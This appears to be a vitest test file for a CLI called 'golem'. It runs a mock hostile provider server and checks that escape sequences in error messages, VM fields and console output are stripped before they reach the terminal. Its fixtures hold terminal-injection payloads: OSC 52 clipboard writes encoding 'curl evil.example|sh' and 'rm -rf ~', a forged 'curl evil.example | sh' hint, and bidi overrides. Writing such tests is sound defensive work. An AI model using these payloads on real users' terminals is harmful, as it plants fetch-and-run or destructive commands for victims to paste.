import { once } from "node:events";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openRequestorDb } from "../src/state/requestor-db.ts";
import { runGolem } from "./run-golem.ts";

// A hostile provider (a plain HTTP server speaking just enough of the provider API) answers
// the real `golem` CLI with escape sequences in its error envelope and in the VM it reports:
// a clipboard write (OSC 52), a screen clear, a window title, cursor moves, a forged hint line,
// a bidi override. Nothing of it may reach the terminal as a control sequence.
const ESC = "\u001b";
const hostile = {
  message: `VM is ${ESC}[31mbusy${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007${ESC}[2J\n  hint: run curl evil.example | sh`,
  hint: `${ESC}[1A${ESC}[2Kwait a minute\u202e${ESC}]0;owned\u0007\u009b31m`,
  status: `running${ESC}[2J${ESC}[H\r\nfake line`,
};

let server: Server;
let url: string;
let home: string;

beforeAll(async () => {
  server = createServer((req, res) => {
    const send = (status: number, body: unknown) => {
      res.writeHead(status, { "content-type": "application/json" });
      res.end(JSON.stringify(body));
    };
    req.resume();
    req.on("end", () => {
      const path = req.url ?? "";
      if (path === "/api/v1/auth/nonce") {
        const host = req.headers.host ?? "";
        return send(200, {
          nonce: "a1b2c3d4e5f6a7b8",
          domain: host,
          uri: `http://${host}`,
          chainId: 31337,
          statement: "Sign in",
          expiresAt: new Date(Date.now() + 600_000).toISOString(),
        });
      }
      if (path === "/api/v1/auth/verify") {
        return send(200, { token: "t", address: "0x0", expiresAt: new Date().toISOString() });
      }
      if (path.startsWith("/api/v1/vms/vm-evil/console") && req.method === "GET") {
        // What a hostile guest writes to its serial port, relayed as it is.
        const output = `login: ${ESC}]52;c;cm0gLXJmIH4=\u0007${ESC}[2J${ESC}[Hroot shell\r\nboot ok\n`;
        return send(200, { id: "vm-evil", output, bytes: Buffer.byteLength(output) });
      }
      if (path === "/api/v1/vms/vm-evil" && req.method === "GET") {
        return send(200, {
          id: "vm-evil",
          name: `evil-1${ESC}]8;;https://evil.example${ESC}\\`,
          status: hostile.status,
          resources: { cpu: 1, memoryGiB: 1, storageGiB: 4 },
          sshPort: 2222,
          publishedPorts: [],
          streamId: null,
          error: `${ESC}[41mdisk full${ESC}[0m`,
          createdAt: new Date().toISOString(),
          updatedAt: new Date().toISOString(),
        });
      }
      return send(409, {
        error: { code: "VM_INVALID_STATE", message: hostile.message, hints: [hostile.hint] },
      });
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  home = await mkdtemp(join(tmpdir(), "golem-hostile-"));
  const db = openRequestorDb(home);
  db.upsertVm({
    name: "evil-1",
    providerId: "0x00000000000000000000000000000000000e5117",
    providerApiUrl: url,
    vmId: "vm-evil",
    streamId: null,
    sshHost: "127.0.0.1",
    sshPort: 2222,
    status: "running",
    cpu: 1,
    memoryGiB: 1,
    storageGiB: 4,
    createdAt: Date.now(),
  });
  db.close();
});

afterAll(async () => {
  server?.closeAllConnections();
  server?.close();
  if (home) await rm(home, { recursive: true, force: true });
});

/** Every code point a terminal acts on: C0 but tab and line feed, DEL, C1, bidi controls. */
function controlsIn(text: string): string[] {
  return [...text].filter((ch) => {
    const c = ch.codePointAt(0) ?? 0;
    if (c === 0x09 || c === 0x0a) return false;
    return (
      c < 0x20 ||
      (c >= 0x7f && c <= 0x9f) ||
      (c >= 0x202a && c <= 0x202e) ||
      (c >= 0x2066 && c <= 0x2069)
    );
  });
}

describe("text from a hostile provider on the terminal", { timeout: 60_000 }, () => {
  it("a provider's error message cannot write escape sequences or forge hint lines", async () => {
    const run = await runGolem(["vm", "stop", "evil-1"], { GOLEM_REQUESTOR_HOME: home });
    expect(run.code).toBe(1);
    expect(controlsIn(run.stderr)).toEqual([]);
    const lines = run.stderr.trimEnd().split("\n");
    // The message and its one hint, each on its own line: no extra line the provider wrote.
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^error\[VM_INVALID_STATE\]: VM is busy/);
    expect(lines[0]).toContain("hint: run curl evil.example | sh");
    expect(lines[1]).toBe("  hint: wait a minute");
  });

  it("a guest's console output cannot write escape sequences through vm console", async () => {
    const run = await runGolem(["vm", "console", "evil-1"], { GOLEM_REQUESTOR_HOME: home });
    expect(run.code, run.stderr).toBe(0);
    expect(controlsIn(run.stdout)).toEqual([]);
    expect(run.stdout).toBe("login: root shell\nboot ok\n");
    // --json keeps the guest's bytes exactly, escaped as JSON.
    const json = await runGolem(["vm", "console", "evil-1", "--json"], {
      GOLEM_REQUESTOR_HOME: home,
    });
    expect(controlsIn(json.stdout)).toEqual([]);
    expect((JSON.parse(json.stdout) as { output: string }).output).toContain(`${ESC}[2J`);
  });

  it("a VM answer whose status is outside the API is refused; nothing of it is saved or printed", async () => {
    const info = await runGolem(["vm", "info", "evil-1"], { GOLEM_REQUESTOR_HOME: home });
    expect(info.code, info.stderr).toBe(0);
    expect(controlsIn(info.stdout)).toEqual([]);
    // The client checks the answer against the provider API's schema: the recorded VM is shown
    // with the refusal, which names the field, not the provider's text.
    expect(info.stdout).toContain("PROVIDER_BAD_RESPONSE");
    expect(info.stdout).toContain("status: Invalid option");
    expect(info.stdout).not.toContain("fake line");
    const list = await runGolem(["vm", "list"], { GOLEM_REQUESTOR_HOME: home });
    expect(list.code, list.stderr).toBe(0);
    expect(controlsIn(list.stdout)).toEqual([]);
    expect(list.stdout).not.toContain("fake line");
    // The recorded status stays what the CLI saved itself.
    const json = await runGolem(["vm", "list", "--json"], { GOLEM_REQUESTOR_HOME: home });
    expect(controlsIn(json.stdout)).toEqual([]);
    const { vms } = JSON.parse(json.stdout) as { vms: { status: string }[] };
    expect(vms[0]?.status).toBe("running");
  });
});
